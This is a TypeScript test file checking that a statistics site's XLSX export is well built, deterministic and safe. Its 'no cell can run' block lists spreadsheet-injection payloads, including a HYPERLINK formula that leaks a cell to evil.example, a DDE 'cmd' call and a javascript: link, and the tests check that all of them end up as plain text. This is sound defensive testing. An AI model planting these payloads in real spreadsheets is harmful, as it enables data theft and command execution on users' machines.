import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as theirs from '@e965/xlsx';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { strFromU8, unzipSync } from 'fflate';
import { Window } from 'happy-dom';
import { beforeAll, describe, expect, test } from 'vitest';
import { isKnown, known, missing, REASON_MEANINGS, SHORTHAND, type Cell } from '#lib/domain/cell.ts';
import { MARK_LABELS } from '#lib/domain/mark.ts';
import { PLAIN } from '#lib/domain/standing.ts';
import { packWorkbook } from '#lib/exports/tables-workbook-pack.ts';
import { sheetTable, type SheetTable } from '#lib/exports/tables-workbook-table.ts';
import { tablesWorkbook, type TablesBook } from '#lib/exports/tables-workbook.ts';
import { makeXlsx } from '#lib/exports/xlsx.ts';
import { roundHalfUp } from '#lib/stats/rounding.ts';
import { renderView } from '#lib/ui/render-view.ts';
import { tablesFrom } from '#lib/ui/taking-tables.ts';
import { inFiles, type ChartModel, type TableFigure, type ViewModel } from '#lib/views/model.ts';
import { packModel, type Pages } from '#lib/views/pack/pack.ts';
import { readPage } from '#lib/views/pack/page-text.ts';
import { seenOfTable } from '#lib/views/pack/seen.ts';
import { packFromTemplate } from '#lib/views/pack/template.ts';
import { provenanceOf } from '#lib/views/provenance-of.ts';
import { viewOf } from '#lib/views/view.ts';
import { citation } from '#lib/words/citation.ts';
import { readTemplates } from '../../scripts/report-pack.ts';
import { pageOf, sharedFacts } from '../published.ts';

const MADE = '2026-11-23';
const SITE = 'https://neglect.example.gov.uk/';

/** A page as it is delivered, its figures taken off it as the button does. */
function bookOf(model: ViewModel): TablesBook {
  const window = new Window({ url: SITE });
  Object.assign(globalThis, {
    document: window.document,
    Element: window.Element,
    XMLSerializer: window.XMLSerializer
  });
  const page = document.createElement('div');
  page.innerHTML = renderView(model);
  const own = model.standing?.restricted === true;
  const book = tablesFrom(page, {
    title: `${model.title} · Neglect Lens`,
    made: MADE,
    ...(own ? {} : { link: SITE, linkTo: (figure, seen = 'none') => `${SITE}#figure=${figure}&seen=${seen}` })
  });
  if (book === undefined) throw new Error('the page shows no table');
  return book;
}

const figuresOf = (model: ViewModel): readonly (ChartModel | TableFigure)[] =>
  model.slots.flatMap(({ charts, tables = [] }) => [...charts, ...tables]);

/** The same from the model, which a delivered page does not hold. */
function tableOfModel(model: ViewModel, figure: ChartModel | TableFigure): SheetTable {
  const about = provenanceOf(model, figure);
  const link =
    model.standing?.restricted === true
      ? undefined
      : `${SITE}#figure=${figure.id}&seen=${seenOfTable(figure) ?? 'none'}`;
  return sheetTable(figure, about, {
    notes: (figure.notes ?? []).map(
      (called) => model.notes.find(({ number }) => number === called)?.text ?? ''
    ),
    link,
    cite: citation({
      title: figure.title,
      area: about.area,
      covers: about.period,
      source: about.source,
      vintage: about.vintage,
      link,
      taken: MADE
    })
  });
}

const partsOf = (bytes: Uint8Array): ReadonlyMap<string, string> =>
  new Map(Object.entries(unzipSync(bytes)).map(([path, content]) => [path, strFromU8(content)]));

/** The reader leaves marks of its own on what it reads. */
const read = (bytes: Uint8Array): theirs.WorkBook =>
  theirs.read(bytes.slice(), { type: 'array', cellNF: true, cellFormula: true, cellStyles: true });

function sheetOf(book: theirs.WorkBook, name: string): theirs.WorkSheet {
  const sheet = book.Sheets[name];
  if (sheet === undefined) throw new Error(`there is no sheet ${name}`);
  return sheet;
}

function cellAt(sheet: theirs.WorkSheet, row: number, column: number): theirs.CellObject | undefined {
  return sheet[theirs.utils.encode_cell({ r: row, c: column })];
}

const extentOf = (sheet: theirs.WorkSheet) => theirs.utils.decode_range(sheet['!ref'] ?? 'A1');

/** The row of the head of the sheet’s table, as the file’s own table part says. */
function tablePart(parts: ReadonlyMap<string, string>, number: number) {
  const xml = parts.get(`xl/tables/table${String(number)}.xml`) ?? '';
  const said = (name: string) => new RegExp(` ${name}="([^"]*)"`).exec(xml)?.[1] ?? '';
  return {
    xml,
    name: said('displayName'),
    range: theirs.utils.decode_range(said('ref')),
    columns: [...xml.matchAll(/<tableColumn id="\d+" name="([^"]*)"/g)].map(([, name = '']) => name)
  };
}

const facts = {
  published: await sharedFacts(),
  demo: await sharedFacts('data/demo')
};
const PAGES = [
  ['Leicestershire’s Overview', await pageOf(facts.published, 'leicestershire')],
  ['Kestrelshire’s Strategy', await pageOf(facts.demo, 'kestrelshire', { view: 'strategy' })],
  ['Rutland’s Prevalence', await pageOf(facts.published, 'rutland', { view: 'prevalence' })]
] as const;

describe.each(PAGES)('%s as a workbook', (_, model) => {
  const book = bookOf(model);
  const bytes = tablesWorkbook(book);
  const parts = partsOf(bytes);
  const workbook = read(bytes);
  const figures = figuresOf(model);
  const sheetFor = (index: number) => `Table_${String(index + 1)}`;
  const numberOf = (sheet: string) => workbook.SheetNames.indexOf(sheet) + 1;
  const tablesOf = workbook.SheetNames.filter((name) => name !== 'Cover');

  test('has a sheet for every table of the page, in order, read off the page as the model has it', () => {
    expect(figures.length).toBeGreaterThan(2);
    expect(book.tables).toHaveLength(figures.length);
    const plain = ({ columns, ...table }: SheetTable) => ({
      ...table,
      columns: columns.map(({ head, kind }) => ({ head, kind }))
    });
    expect(book.tables.map(plain)).toEqual(figures.map((each) => plain(tableOfModel(model, each))));
    expect(workbook.SheetNames.slice(-figures.length)).toEqual(figures.map((_, index) => sheetFor(index)));
  });

  test.each(figures.map((figure, index) => [figure.id, figure, index] as const))(
    'every cell of %s equals the model’s, by a reader of others',
    (_, figure, index) => {
      const sheet = sheetOf(workbook, sheetFor(index));
      const { range } = tablePart(parts, numberOf(sheetFor(index)));
      const { columns, rows } = inFiles(figure.table);
      expect(range.e.r - range.s.r).toBe(rows.length);
      expect(range.e.c + 1).toBe(columns.length);
      rows.forEach((row, r) => {
        columns.forEach(({ key, decimals: most = 0, rowDecimals, kind }, c) => {
          const decimals = rowDecimals?.[r] ?? most;
          const value: string | Cell | undefined = row[key];
          const cell = cellAt(sheet, range.s.r + 1 + r, c);
          expect(cell?.f).toBeUndefined();
          if (typeof value !== 'object') {
            expect(cell?.v ?? '').toBe((value ?? '').replace(/\r\n?/g, '\n'));
          } else if (isKnown(value) && kind === 'number') {
            expect([cell?.t, cell?.v]).toEqual(['n', roundHalfUp(value.value, decimals)]);
            expect(cell?.w).toBe(
              roundHalfUp(value.value, decimals).toLocaleString('en-GB', {
                minimumFractionDigits: decimals,
                maximumFractionDigits: decimals
              })
            );
          } else if (!isKnown(value)) expect([cell?.t, cell?.v]).toEqual(['s', SHORTHAND[value.reason]]);
        });
      });
    }
  );

  test('begins with cover, contents, notes and symbols; names are short and unlike each other', () => {
    const called = figures.some(({ notes = [] }) => notes.length > 0);
    const front = ['Cover', 'Contents', ...(called ? ['Notes'] : []), 'Symbols'];
    expect(workbook.SheetNames.slice(0, front.length)).toEqual(front);
    expect(new Set(workbook.SheetNames.map((name) => name.toLowerCase())).size).toBe(
      workbook.SheetNames.length
    );
    expect(workbook.SheetNames.every((name) => name.length <= 12)).toBe(true);
  });

  test('says what it is, by whom, in which language, and when it was made', () => {
    expect(workbook.Props).toMatchObject({ Author: 'Neglect Lens', Language: 'en-GB' });
    expect(workbook.Props?.Title).toContain(model.title);
    expect(workbook.Props?.CreatedDate?.toString()).toContain('2026');
    expect(parts.get('docProps/core.xml')).toContain('2026-11-23T00:00:00Z');
  });

  test('covers area, position, edition, licence, standing, date and how to cite it', () => {
    const sheet = sheetOf(workbook, 'Cover');
    const words = theirs.utils.sheet_to_json<string[]>(sheet, { header: 1 }).map(([line]) => line ?? '');
    expect(words[0]).toContain(model.title);
    for (const part of [model.area.name, model.headline.text, '23 November 2026', model.licence ?? ''])
      expect(words).toContain(part);
    expect(words.some((line) => line.includes(model.position) && line.includes(model.edition))).toBe(true);
    expect(words.some((line) => line.startsWith('Neglect Lens, “'))).toBe(true);
    if (model.standing?.madeUp === true) expect(words[0]).toMatch(/^Made-up figures · /);
  });

  test('each sheet but the cover holds one named table from column A to its last row, with one head row', () => {
    const names = tablesOf.map((name) => {
      const sheet = sheetOf(workbook, name);
      const { name: table, range, columns } = tablePart(parts, numberOf(name));
      const extent = extentOf(sheet);
      expect([range.s.c, range.e]).toEqual([0, extent.e]);
      const heads = columns.map((_, column) => cellAt(sheet, range.s.r, column)?.v);
      expect(heads.map((head) => String(head).replaceAll('&', '&amp;').replaceAll('"', '&quot;'))).toEqual(
        columns
      );
      expect(new Set(heads).size).toBe(heads.length);
      return table;
    });
    expect(new Set(names).size).toBe(names.length);
    expect(names.every((table) => /^[A-Z][A-Za-z0-9_]+$/.test(table))).toBe(true);
  });

  test('nothing is merged, filtered, frozen, hidden or filled; no row or column is blank', () => {
    for (const [path, xml] of parts)
      if (/xl\/(worksheets\/sheet|tables)/.test(path))
        expect(xml).not.toMatch(/<mergeCell|<autoFilter|<pane|hidden=|<headerFooter|<drawing/);
    const styles: unknown = new XMLParser({ ignoreAttributes: false }).parse(
      parts.get('xl/styles.xml') ?? ''
    );
    expect(styles).toHaveProperty('styleSheet.cellXfs.xf');
    for (const name of workbook.SheetNames) {
      const sheet = sheetOf(workbook, name);
      const { e } = extentOf(sheet);
      const filled = (row: number, column: number) => cellAt(sheet, row, column)?.v !== undefined;
      const rows = Array.from({ length: e.r + 1 }, (_, row) => row);
      const columns = Array.from({ length: e.c + 1 }, (_, column) => column);
      expect(rows.filter((row) => !columns.some((column) => filled(row, column)))).toEqual([]);
      expect(columns.filter((column) => !rows.some((row) => filled(row, column)))).toEqual([]);
      expect(sheet['!merges'] ?? []).toEqual([]);
    }
  });

  test('every cell is wrapped and without a fill, and the cursor is in A1 of the first sheet', () => {
    const xfs = [
      ...(/<cellXfs[^>]*>(.*)<\/cellXfs>/.exec(parts.get('xl/styles.xml') ?? '')?.[1] ?? '').matchAll(
        /<xf ([^>]*?)(?:\/>|>(.*?)<\/xf>)/g
      )
    ];
    const used = new Set(
      [...parts]
        .filter(([path]) => path.startsWith('xl/worksheets/sheet'))
        .flatMap(([, xml]) => [...xml.matchAll(/<c r="[^"]+" s="(\d+)"/g)].map(([, style]) => Number(style)))
    );
    expect(used.size).toBeGreaterThan(4);
    for (const style of used) {
      const [, attributes = '', inside = ''] = xfs[style] ?? [];
      expect(attributes).toContain('fillId="0"');
      expect(inside).toContain('wrapText="1"');
    }
    const first = parts.get('xl/worksheets/sheet1.xml') ?? '';
    expect(first).toContain('tabSelected="1"');
    expect(first).toContain('<selection activeCell="A1" sqref="A1"/>');
    expect([...parts.values()].filter((xml) => xml.includes('tabSelected')).length).toBe(1);
  });

  test('the sheet of each table names its source, release, dates, licence, mark and notes above it', () => {
    book.tables.forEach((table, index) => {
      const sheet = sheetOf(workbook, sheetFor(index));
      const { range } = tablePart(parts, numberOf(sheetFor(index)));
      const above = Array.from({ length: range.s.r }, (_, row) => String(cellAt(sheet, row, 0)?.v ?? ''));
      const words = above.join('\n');
      for (const part of [
        table.source,
        table.vintage,
        table.period,
        table.filters,
        table.message,
        table.cite
      ])
        expect(words).toContain(part.replace(/\.$/, ''));
      const figure = figures[index];
      const differ = figure?.table.columns.some(({ mark }) => mark !== undefined && mark !== figure.mark);
      const heads = Array.from({ length: range.e.c + 1 }, (_, column) =>
        String(cellAt(sheet, range.s.r, column)?.v)
      );
      if (differ === true)
        expect(
          heads.some((head) => Object.values(MARK_LABELS).some((mark) => head.endsWith(`, ${mark}`)))
        ).toBe(true);
      else expect(words).toContain(`Counts: ${MARK_LABELS[figure?.mark ?? 'all']}. `);
      const calls = [...(above[0] ?? '').matchAll(/\[note (\d+)\]/g)].map(([, number]) => Number(number));
      expect(calls).toHaveLength(table.notes.length);
      const notes = calls.length === 0 ? undefined : sheetOf(workbook, 'Notes');
      for (const [at, call] of calls.entries()) {
        const { range: listed } = tablePart(parts, numberOf('Notes'));
        expect(cellAt(notes ?? {}, listed.s.r + call, 0)?.v).toBe(`[note ${String(call)}]`);
        expect(cellAt(notes ?? {}, listed.s.r + call, 1)?.v).toBe(table.notes[at]);
      }
    });
  });

  test('the contents lead to every table, and each word in brackets has its meaning', () => {
    const contents = sheetOf(workbook, 'Contents');
    const { range } = tablePart(parts, numberOf('Contents'));
    figures.forEach((figure, index) => {
      const row = range.s.r + 1 + index;
      expect(cellAt(contents, row, 0)?.l?.Target).toBe(`#'${sheetFor(index)}'!A1`);
      expect(cellAt(contents, row, 1)?.v).toBe(figure.table.caption);
      expect(cellAt(contents, row, 3)?.v).toBe(figure.covers === '' ? '[z]' : figure.covers);
    });
    const symbols = theirs.utils.sheet_to_json<string[]>(sheetOf(workbook, 'Symbols'), { header: 1 });
    const meanings = new Map(symbols.map(([symbol = '', meaning = '']) => [symbol, meaning]));
    const reasons = figures.flatMap(({ table }) =>
      table.rows.flatMap((row) =>
        Object.values(row).flatMap((value) =>
          typeof value === 'object' && !isKnown(value) ? [value.reason] : []
        )
      )
    );
    for (const reason of reasons) expect(meanings.get(SHORTHAND[reason])).toBe(REASON_MEANINGS[reason]);
  });

  test('every part is well-formed XML, and the same page on the same day makes the same bytes', () => {
    for (const [path, xml] of parts) expect([path, XMLValidator.validate(xml)]).toEqual([path, true]);
    expect(tablesWorkbook(bookOf(model))).toEqual(bytes);
  });

  /** LibreOffice writes values and not their look: `1,234` as `1234`, `21.0` as `21`. */
  const ungrouped = (csv: string) =>
    csv
      .replace(/"(-?\d{1,3}(?:,\d{3})+(?:\.\d+)?)"/g, (_, shown: string) => shown.replaceAll(',', ''))
      .replace(/(?<=^|,)(-?\d+)\.(\d*?)0+(?=,|$)/gm, (_, whole: string, rest: string) =>
        rest === '' ? whole : `${whole}.${rest}`
      );
  const office = spawnSync('soffice', ['--version']).status === 0;
  test.skipIf(!office)(
    'LibreOffice reads the same (skipped where it is not installed)',
    { timeout: 120_000 },
    () => {
      const folder = mkdtempSync(join(tmpdir(), 'lens-office-'));
      try {
        const file = join(folder, 'tables.xlsx');
        writeFileSync(file, bytes);
        // The last number asks for every sheet, each in a file of its own.
        const filter = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1';
        const home = `-env:UserInstallation=file://${folder}/home`;
        const run = spawnSync('soffice', [
          home,
          '--headless',
          '--convert-to',
          filter,
          '--outdir',
          folder,
          file
        ]);
        expect(run.status).toBe(0);
        for (const [index] of figures.entries()) {
          const csv = ungrouped(readFileSync(join(folder, `tables-${sheetFor(index)}.csv`), 'utf8'));
          const ours = theirs.utils.sheet_to_csv(sheetOf(workbook, sheetFor(index)));
          expect(csv.replace(/\r\n/g, '\n').trim()).toBe(ungrouped(ours).trim());
        }
      } finally {
        rmSync(folder, { recursive: true });
      }
    }
  );
});

test('what is withheld is in these pages, so that its shorthand was really looked for', () => {
  const [, , [, rutland]] = PAGES;
  const cells = figuresOf(rutland).flatMap(({ table }) => table.rows.flatMap((row) => Object.values(row)));
  expect(cells).toContainEqual(missing('withheld'));
});

const table: SheetTable = {
  id: 'plans',
  message: 'Plans fell.',
  caption: 'Children on a plan, 31 March 2024',
  mark: 'neglect',
  area: 'Leeds',
  period: '31 March 2024',
  filters: '',
  source: 'DfE',
  vintage: '2024',
  licence: 'Open Government Licence v3.0',
  use: '',
  notes: [],
  cite: 'Neglect Lens, “Plans fell”, Leeds.',
  columns: [
    { head: 'Area', kind: 'text', decimals: 0 },
    { head: 'Children', kind: 'number', decimals: 0 }
  ],
  rows: [['Leeds', known(1235)]]
};
const book: TablesBook = {
  title: 'Leeds: overview',
  message: '',
  areas: ['Leeds'],
  positions: [],
  standing: PLAIN,
  made: MADE,
  licence: '',
  cite: 'Neglect Lens.',
  tables: [table]
};
const sheetRead = (of: Partial<SheetTable>, more: Partial<TablesBook> = {}) => {
  const bytes = tablesWorkbook({ ...book, ...more, tables: [{ ...table, ...of }] });
  const workbook = read(bytes);
  const parts = partsOf(bytes);
  const number = workbook.SheetNames.indexOf('Table_1') + 1;
  return { workbook, parts, sheet: sheetOf(workbook, 'Table_1'), part: tablePart(parts, number) };
};

describe('no cell can run', () => {
  const NASTY = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    '+1+1',
    '-2+3',
    '@SUM(1)',
    "=cmd|' /C calc'!A0",
    '\t=1',
    '\r=1+1',
    '"=1',
    '</t></is></c><c r="B9"><f>1+1</f></c>',
    ']]><f>1</f>',
    '_x003D_1+1',
    'a\u0000b\u000b'
  ];

  test.each(NASTY)('%j is text in every place that takes words', (nasty) => {
    const { workbook, parts, sheet, part } = sheetRead(
      {
        message: nasty,
        caption: nasty,
        notes: [nasty],
        source: nasty,
        columns: [
          { head: nasty, kind: 'text', decimals: 0 },
          { head: `${nasty} again`, kind: 'number', decimals: 0 }
        ],
        rows: [[nasty, known(1)]]
      },
      { title: nasty, areas: [nasty], cite: nasty }
    );
    for (const [path, xml] of parts) {
      expect([path, XMLValidator.validate(xml)]).toEqual([path, true]);
      expect(xml).not.toMatch(/<f[ >]|<formula|t="str"/);
    }
    for (const name of workbook.SheetNames) {
      const each = sheetOf(workbook, name);
      const { e } = extentOf(each);
      for (let row = 0; row <= e.r; row += 1)
        for (let column = 0; column <= e.c; column += 1) expect(cellAt(each, row, column)?.f).toBeUndefined();
    }
    const cell = cellAt(sheet, part.range.s.r + 1, 0);
    expect(cell?.t).toBe('s');
    const kept = [...nasty]
      .filter((letter) => letter >= ' ' || /\s/.test(letter))
      .filter((letter) => letter !== '\v');
    expect(String(cell?.v).replace(/\r/g, '\n')).toBe(kept.join('').replace(/\r/g, '\n'));
  });

  test('a cell of words stays text when somebody types it again', () => {
    const { parts } = sheetRead({ rows: [['=1+1', known(1)]] });
    const styles = /<cellXfs[^>]*>(.*)<\/cellXfs>/.exec(parts.get('xl/styles.xml') ?? '')?.[1] ?? '';
    const all = [...styles.matchAll(/<xf ([^>]*)>/g)].map(([, attributes = '']) => attributes);
    const xml = [...parts].find(([, text]) => text.includes('>=1+1<'))?.[1] ?? '';
    const style = Number(/s="(\d+)" t="inlineStr"><is><t xml:space="preserve">=1\+1</.exec(xml)?.[1]);
    expect(all[style]).toContain('quotePrefix="1"');
  });

  test('only pages of the web are led to', () => {
    const { parts } = sheetRead({}, { link: 'javascript:alert(1)' });
    expect([...parts.values()].join('')).not.toContain('Target="javascript');
    expect([...sheetRead({}, { link: SITE }).parts.values()].join('')).toContain(`Target="${SITE}"`);
  });
});

describe('a workbook of tables', () => {
  test('marks restricted and made-up figures on the cover and in the title of every sheet', () => {
    const { workbook } = sheetRead({}, { standing: { restricted: true, madeUp: true } });
    for (const name of workbook.SheetNames)
      expect(cellAt(sheetOf(workbook, name), 0, 0)?.v).toMatch(/^Restricted · Made-up figures · /);
    expect(workbook.Props?.Title).toMatch(/^Restricted · /);
  });

  test('puts what is known of single figures in a column after them', () => {
    const { sheet, part } = sheetRead({
      rows: [
        ['Leeds', known(5, ['p', 'r'])],
        ['Hull', known(6)]
      ]
    });
    expect(part.columns).toEqual(['Area', 'Children', 'Children: what to know']);
    expect(cellAt(sheet, part.range.s.r + 1, 2)?.v).toBe('[r] [p]');
    expect(cellAt(sheet, part.range.s.r + 2, 2)?.v).toBeUndefined();
    const above = Array.from({ length: part.range.s.r }, (_, row) => String(cellAt(sheet, row, 0)?.v));
    expect(above.join(' ')).toContain('Where a cell is blank');
  });

  test('tells heads apart that are the same, and keeps a table without rows', () => {
    const twice = [...table.columns, { head: 'children', kind: 'number' as const, decimals: 1 }];
    expect(sheetRead({ columns: twice, rows: [['Leeds', known(1), known(0.5)]] }).part.columns).toEqual([
      'Area',
      'Children',
      'children (2)'
    ]);
    const { sheet, part } = sheetRead({ rows: [] });
    expect(cellAt(sheet, part.range.s.r + 1, 0)?.v).toBe('There is nothing to list.');
  });

  test('a name that a table cannot have, and heads that are the same, are refused', () => {
    const rows = [[{ text: 'A', style: 'columnHead' as const }], [{ number: 1, style: 'number0' as const }]];
    const made = (name: string) =>
      makeXlsx('t', [{ name: 's', widths: [], rows, table: { name, headRow: 0 } }]);
    for (const name of ['AB12', 'R', '1st', 'a b', '']) expect(() => made(name)).toThrow('name of a table');
    expect(made('Table_1').length).toBeGreaterThan(500);
    const same = [[...(rows[0] ?? []), ...(rows[0] ?? [])], ...rows.slice(1)];
    const sheet = { name: 's', widths: [], rows: same, table: { name: 'Table_1', headRow: 0 } };
    expect(() => makeXlsx('t', [sheet])).toThrow('the same');
  });
});

describe('a pack as a workbook', () => {
  let bytes: Uint8Array | undefined;
  let figures: number;

  beforeAll(async () => {
    const template = (await readTemplates()).get('quarterly-board-pack');
    if (template === undefined) throw new Error('there is no such template');
    const place = { page: 'view', area: 'leicestershire', view: 'overview' } as const;
    const pack = packFromTemplate(template, { own: false, place }, 'Leicestershire');
    const pages: Pages = async (page, reckonedOn) => {
      const found = readPage(page);
      return found === undefined ? { unanswerable: page } : viewOf(facts.published, found.place, reckonedOn);
    };
    const model = await packModel(pack, [], pages, {
      made: MADE,
      catalogue: () => Promise.resolve(facts.published.catalogue)
    });
    figures = model.blocks.filter(({ kind }) => kind === 'figure').length;
    bytes = packWorkbook(model);
  });

  test('has a sheet for each of its figures, numbered as the pack numbers them', () => {
    const { SheetNames } = read(bytes ?? new Uint8Array());
    expect(figures).toBeGreaterThan(5);
    expect(SheetNames.filter((name) => name.startsWith('Figure_'))).toEqual(
      Array.from({ length: figures }, (_, index) => `Figure_${String(index + 1)}`)
    );
  });
});
